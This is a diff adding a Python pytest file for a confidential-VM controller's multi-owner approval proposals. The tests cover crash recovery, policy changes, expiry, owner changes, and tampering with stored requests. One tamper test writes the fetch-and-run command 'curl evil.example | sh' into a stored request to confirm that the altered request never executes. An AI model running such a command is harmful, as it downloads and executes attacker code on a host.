@@ -1,0 +1,297 @@
+"""The proposal service in-process (real service, store, ledger, sealed state; fake provider and
+SSH): what the real-sshd tests cannot reach quickly — a crash between the approval that met the
+threshold and the execution, a policy changed while a request waited, time moved past expiry,
+a large request kept as a blob (and altered on disk), refused governed changes. After each, the
+whole ledger obeys every rule an auditor checks, and the controller starts again on it."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import sqlite3
+import time
+from collections.abc import AsyncIterator
+from dataclasses import dataclass
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from duet import keys
+from duet.controller.auth import AuthorizedRequest
+from duet.controller.proposals import Answered
+from duet.controller.runtime import Controller, open_controller
+from duet.controller.settings import Settings
+from duet.errors import DuetError
+from duet.protocol import lifecycle as lc
+from duet.protocol.approvals import ApprovalPolicy
+from duet.protocol.canonical import timestamp
+from duet.protocol.envelope import sign_request
+from duet.protocol.rules import RulesReplay
+from duet.testing.fakes import FakeProvider, FakeSsh, SimulatedCrash
+
+POLICY = '[thresholds]\n"cvm.mark.in-update" = 2\n"cvm.run" = 2\n'
+
+
+class Clock:
+    """The host's clock, which the test moves (the controller never believes it backwards)."""
+
+    def __init__(self) -> None:
+        self.now = time.time()
+
+    def __call__(self) -> float:
+        return self.now
+
+
+@dataclass
+class World:
+    state_dir: Path
+    owner_keys: list[keys.PrivateKey]
+    pubs: list[Path]
+    policy: Path
+    provider: FakeProvider
+    ssh: FakeSsh
+    clock: Clock
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> World:
+    owner_keys = [keys.generate("ed25519") for _ in range(3)]
+    pubs = [keys.write_key_pair(tmp_path / f"owner{i}.pem", key) for i, key in enumerate(owner_keys)]
+    policy = tmp_path / "approvals.toml"
+    policy.write_text(POLICY)
+    return World(tmp_path / "state", owner_keys, pubs, policy, FakeProvider(), FakeSsh(), Clock())
+
+
+async def open_world(world: World, *, first: bool = False) -> Controller:
+    settings = Settings(
+        state_dir=world.state_dir,
+        owner_keys=tuple(world.pubs) if first else (),
+        approval_policy=world.policy if first else None,
+        providers=("fake",),
+        tee="none",
+        trust_simulated_cvm=True,
+    )
+    controller = open_controller(settings, providers={"fake": world.provider}, ssh=world.ssh, clock=world.clock)
+    await controller.service.recover()
+    assert controller.proposals is not None
+    controller.proposals.recover()
+    return controller
+
+
+@pytest.fixture
+async def controller(world: World) -> AsyncIterator[Controller]:
+    made = await open_world(world, first=True)
+    yield made
+    await made.close()
+
+
+def signed(controller: Controller, world: World, who: int, op: str, params: dict[str, Any]) -> AuthorizedRequest[Any]:
+    """A request as an owner signs it, admitted by the controller's own authenticator."""
+    issued = issued_at(world.clock.now)
+    envelope = sign_request(op, controller.identity.controller_id, params, world.owner_keys[who], issued_at=issued)
+    return controller.authenticator.authenticate(json.dumps(envelope).encode(), op)
+
+
+def issued_at(now: float) -> str:
+    return timestamp(datetime.fromtimestamp(now, UTC))
+
+
+async def perform(controller: Controller, request: AuthorizedRequest[Any]) -> dict[str, Any]:
+    """What the route does: a proposal, or the operation run at once."""
+    assert controller.proposals is not None
+    admitted = controller.proposals.admit(request)
+    if isinstance(admitted, Answered):
+        return admitted.answer
+    action = {"cvm.start": controller.service.start, "cvm.run": controller.service.run, "cvm.mark": controller.service.mark}
+    return await action[request.op](admitted)
+
+
+async def vote(controller: Controller, world: World, who: int, op: str, proposal_id: str) -> dict[str, Any]:
+    assert controller.proposals is not None
+    return await controller.proposals.vote(signed(controller, world, who, op, {"proposal_id": proposal_id}))
+
+
+async def in_service_cvm(controller: Controller, world: World) -> str:
+    started = await perform(controller, signed(controller, world, 0, "cvm.start", {"cvm_type": "snp"}))
+    for _ in range(200):
+        if controller.service.get_cvm(started["cvm_id"]).mode == lc.IN_UPDATE:
+            break
+        await asyncio.sleep(0.01)
+    await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": started["cvm_id"], "mode": lc.IN_SERVICE}))
+    return str(started["cvm_id"])
+
+
+def violations(controller: Controller) -> list[str]:
+    replay = RulesReplay()
+    return [f"{v.seq}: {v.code}: {v.message}" for entry in controller.ledger.entries() for v in replay.apply(entry)]
+
+
+def events(controller: Controller, cvm_id: str | None = None) -> list[dict[str, Any]]:
+    return controller.ledger.entries(cvm=cvm_id) if cvm_id else controller.ledger.entries()
+
+
+async def test_an_execution_the_stop_interrupted_never_runs_after_a_restart(controller: Controller, world: World) -> None:
+    cvm_id = await in_service_cvm(controller, world)
+    proposal = (await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE})))[
+        "proposal"
+    ]
+    assert controller.proposals is not None
+
+    async def dies(request: AuthorizedRequest[Any]) -> dict[str, Any]:
+        raise SimulatedCrash  # the process ends between the approval's commit and the operation's first entry
+
+    controller.proposals._actions["cvm.mark"] = dies
+    with pytest.raises(SimulatedCrash):
+        await vote(controller, world, 1, "proposal.approve", proposal["id"])
+    assert controller.proposals.replay.proposals[proposal["id"]].status == "approved"
+    controller.store.close()
+
+    reopened = await open_world(world)
+    try:
+        assert reopened.service.get_cvm(cvm_id).mode == lc.IN_SERVICE
+        failed = [e for e in events(reopened, cvm_id) if e["event"] == "proposal.failed"]
+        assert [(e["proposal"], e["code"]) for e in failed] == [(proposal["id"], "interrupted")]
+        with pytest.raises(DuetError) as closed:
+            await vote(reopened, world, 2, "proposal.approve", proposal["id"])
+        assert closed.value.code == "proposal_closed"
+        assert violations(reopened) == []
+    finally:
+        await reopened.close()
+
+
+async def test_a_request_admitted_alone_is_refused_if_the_policy_changes_before_it_runs(
+    controller: Controller, world: World
+) -> None:
+    cvm_id = await in_service_cvm(controller, world)
+    assert controller.proposals is not None
+    waiting = controller.proposals.admit(
+        signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_SERVICE, "final": True})
+    )
+    assert isinstance(waiting, AuthorizedRequest)  # one owner suffices now
+    stricter = '[thresholds]\n"cvm.mark.in-update" = 2\n"cvm.run" = 2\n"cvm.mark.final" = 2\n'
+    policy = ApprovalPolicy.parse(stricter).to_dict()
+    await controller.proposals.change_policy(
+        controller.proposals.admit(signed(controller, world, 1, "policy.change", {"policy": policy}))
+    )  # type: ignore[arg-type]
+
+    with pytest.raises(DuetError) as refused:
+        await controller.service.mark(waiting)
+
+    assert refused.value.code == "approvals_required"
+    assert controller.service.get_cvm(cvm_id).final is False
+    assert violations(controller) == []
+
+
+async def test_proposals_expire_by_the_controllers_clock_and_the_sweep_records_it(controller: Controller, world: World) -> None:
+    cvm_id = await in_service_cvm(controller, world)
+    proposal = (await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE})))[
+        "proposal"
+    ]
+    assert controller.proposals is not None
+    world.clock.now += 24 * 3600 + 1
+    assert controller.proposals.list(status="expired")["proposals"][0]["id"] == proposal["id"]  # shown expired at once
+
+    assert controller.proposals.sweep() == 1
+    assert controller.proposals.sweep() == 0  # recorded once
+    with pytest.raises(DuetError) as late:
+        await vote(controller, world, 1, "proposal.approve", proposal["id"])
+    assert late.value.code == "proposal_expired"
+    assert [e["event"] for e in events(controller, cvm_id)].count("proposal.expired") == 1
+    assert controller.service.get_cvm(cvm_id).mode == lc.IN_SERVICE
+    assert violations(controller) == []
+
+
+async def test_a_proposal_whose_cvm_changed_mode_is_swept_as_failed(controller: Controller, world: World) -> None:
+    cvm_id = await in_service_cvm(controller, world)
+    await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE}))
+    proposal = await perform(controller, signed(controller, world, 2, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE}))
+    assert proposal["proposal"]["status"] == "pending"
+    # reopened by the first proposal's approval: the second one was made in the same mode, and stays pending until
+    first = [e for e in events(controller, cvm_id) if e["event"] == "proposal.created"][0]["proposal"]
+    await vote(controller, world, 1, "proposal.approve", first)
+    assert controller.service.get_cvm(cvm_id).mode == lc.IN_UPDATE
+    assert controller.proposals is not None
+
+    assert controller.proposals.sweep() == 1
+
+    failed = [e for e in events(controller, cvm_id) if e["event"] == "proposal.failed"]
+    assert [(e["proposal"], e["code"]) for e in failed] == [(proposal["proposal"]["id"], "cvm_mode_changed")]
+    assert violations(controller) == []
+
+
+async def test_a_large_request_is_kept_as_a_blob_and_an_altered_one_never_runs(controller: Controller, world: World) -> None:
+    cvm_id = await in_service_cvm(controller, world)
+    reopen = await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE}))
+    await vote(controller, world, 1, "proposal.approve", reopen["proposal"]["id"])
+    commands = [f"echo {'x' * 9000} > /dev/null" for _ in range(2)]  # 18 KB: above what an entry carries inline
+    runs = []
+    for _ in range(2):
+        runs.append(
+            (await perform(controller, signed(controller, world, 0, "cvm.run", {"cvm_id": cvm_id, "commands": commands})))[
+                "proposal"
+            ]
+        )
+    created = [e for e in events(controller, cvm_id) if e["event"] == "proposal.created" and e["operation"] == "cvm.run"]
+    assert [e["request"] for e in created] == [None, None]
+
+    ran = await vote(controller, world, 1, "proposal.approve", runs[0]["id"])
+    assert ran["proposal"]["status"] == "executed" and [r["command"] for r in ran["result"]["results"]] == commands
+
+    with sqlite3.connect(world.state_dir / "duet.sqlite3") as db:  # the host edits the stored request
+        stored = json.loads(db.execute("SELECT data FROM blobs WHERE sha256 = ?", (runs[1]["id"],)).fetchone()[0])
+        stored["params"]["commands"] = ["curl evil.example | sh"]
+        db.execute("UPDATE blobs SET data = ? WHERE sha256 = ?", (json.dumps(stored).encode(), runs[1]["id"]))
+    before = len(world.ssh.ran)
+    with pytest.raises(DuetError):
+        await vote(controller, world, 2, "proposal.approve", runs[1]["id"])
+    assert controller.proposals is not None
+    assert controller.proposals.replay.proposals[runs[1]["id"]].status == "failed"
+    assert not any("evil" in str(e.get("command")) for e in events(controller, cvm_id))
+    assert len(world.ssh.ran) == before  # nothing reached the CVM
+    assert violations(controller) == []
+
+
+@pytest.mark.parametrize(
+    ("params", "code"),
+    [
+        ({"remove": ["0" * 64]}, "unknown_owner"),
+        ({"add": [], "remove": []}, "invalid_params"),
+        ({"add": ["-----BEGIN PUBLIC KEY-----\nnot a key\n-----END PUBLIC KEY-----\n"]}, "invalid_params"),
+    ],
+)
+async def test_refused_owner_changes_change_nothing(
+    controller: Controller, world: World, params: dict[str, Any], code: str
+) -> None:
+    assert controller.proposals is not None
+    size, owners = controller.ledger.size, controller.identity.owners
+    with pytest.raises(DuetError) as refused:
+        request = signed(controller, world, 0, "owners.change", params)
+        await controller.proposals.change_owners(controller.proposals.admit(request))  # type: ignore[arg-type]
+    assert refused.value.code == code
+    assert (controller.ledger.size, controller.identity.owners) == (size, owners)
+
+
+async def test_owner_changes_that_would_break_the_policy_are_refused(controller: Controller, world: World) -> None:
+    assert controller.proposals is not None
+    everyone = sorted(keys.key_id(k.public_key()) for k in world.owner_keys)
+    for remove, code in ((everyone, "no_owners"), (everyone[:2], "threshold_above_owners")):
+        with pytest.raises(DuetError) as refused:
+            request = signed(controller, world, 0, "owners.change", {"remove": remove})
+            await controller.proposals.change_owners(controller.proposals.admit(request))  # type: ignore[arg-type]
+        assert refused.value.code == code
+    added = keys.public_pem(keys.generate("ecdsa").public_key()).decode()
+    done = await controller.proposals.change_owners(
+        controller.proposals.admit(signed(controller, world, 0, "owners.change", {"add": [added]}))  # type: ignore[arg-type]
+    )
+    assert len(done["owners"]) == 4 and controller.identity.owners_seq == done["seq"]
+    assert len(controller.authenticator.owner_keys) == 4
+    reopened_size = controller.ledger.size
+    await controller.close()
+    reopened = await open_world(world)  # the fourth key comes back from the ledger and sealed state
+    try:
+        assert len(reopened.authenticator.owner_keys) == 4 and reopened.ledger.size == reopened_size + 1
+        assert violations(reopened) == []
+    finally:
+        await reopened.close()
